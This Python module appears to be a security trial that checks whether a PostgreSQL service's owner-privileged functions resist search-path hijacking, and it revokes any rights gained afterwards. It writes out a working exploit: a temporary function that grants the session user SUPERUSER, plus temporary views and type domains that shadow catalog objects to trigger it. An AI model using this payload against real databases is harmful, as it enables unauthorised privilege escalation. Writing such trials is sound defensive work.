"""A theft of the owner's rights: types and views of one's own, found before the real ones."""

from collections.abc import Mapping, Sequence

from libs.common.names import role_of
from trials.security.thefts.kinds import Connection, Outcome
from trials.security.thefts.pool import Pool

#: Makes its caller a superuser, if it runs with the rights of one; else it does nothing.
_GREEDY = """
CREATE FUNCTION pg_temp.greedy() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE format('ALTER ROLE %I SUPERUSER', session_user);
    RETURN true;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN true;
END
$$
"""
#: Types of functions' variables and casts, and catalogues that functions read.
_TYPES = ("text", "jsonb", "uuid", "timestamptz", "bytea")
_VIEWS = ("pg_stat_activity", "pg_locks", "pg_roles", "pg_class")
#: What each role may have the owner's functions and triggers do.
_DONE: Mapping[str, Sequence[str]] = {
    "wallet": (
        "SELECT FROM wallet.end_hold_ups()",
        "SELECT FROM wallet.tell_effective_addresses()",
        "SELECT FROM wallet.forget_notices()",
        "INSERT INTO wallet.conditions (name, kind, stands, since, reported_at, facts) "
        "VALUES ('mine', 'node', true, now(), now(), '{}')",
    ),
    "registry": (
        "SELECT FROM registry.forget_notifications(1)",
        "INSERT INTO registry.poolers (id, name, public_key, max_farmers, last_seen) "
        "VALUES (gen_random_uuid(), 'mine', 'G', 1, now())",
        "UPDATE registry.poolers SET gone_since = now() WHERE public_key = 'G'",
    ),
    **{name: (f"SELECT {name}.ensure_partition(1)",) for name in ("plant", "work", "harvest")},
}


async def grasp(thief: Connection, service: str) -> None:
    """Have all that the owner's functions do for a service pass through what the thief has made.

    The session has its own types from then on.
    """
    await thief.execute(_GREEDY)
    for name in _VIEWS:
        await thief.execute(
            f"CREATE TEMPORARY VIEW {name} AS "  # noqa: S608  (the trial's own words)
            f"SELECT * FROM pg_catalog.{name} WHERE pg_temp.greedy()"
        )
    for name in _TYPES:
        await thief.execute(
            f"CREATE DOMAIN pg_temp.{name} AS pg_catalog.{name} CHECK (pg_temp.greedy())"
        )
    for statement in _DONE[service]:
        await thief.execute(statement)


async def is_superuser(admin: Connection, role: str) -> bool:
    """Tell whether a role has all rights, and take them away."""
    query = "SELECT rolsuper FROM pg_roles WHERE rolname = $1"
    found = await admin.fetchval(query, role)
    await admin.execute(f'ALTER ROLE "{role}" NOSUPERUSER')
    return bool(found)


async def the_rights_of_the_owner(pool: Pool, thief: Connection) -> Outcome:
    """Try it as a role could where nothing was restricted."""
    role = str(await thief.fetchval("SELECT session_user"))
    service = next(name for name in _DONE if role_of(name) == role)
    database = await pool.admin.fetchval("SELECT quote_ident(current_database())")
    await pool.admin.execute(f"GRANT TEMPORARY ON DATABASE {database} TO PUBLIC")
    try:
        await grasp(thief, service)
    finally:
        got = await is_superuser(pool.admin, role)
        await pool.admin.execute(f"REVOKE TEMPORARY ON DATABASE {database} FROM PUBLIC")
    return Outcome(
        got=["all rights on the database"] if got else [],
        stopped="the owner's functions look for names of a session last",
    )
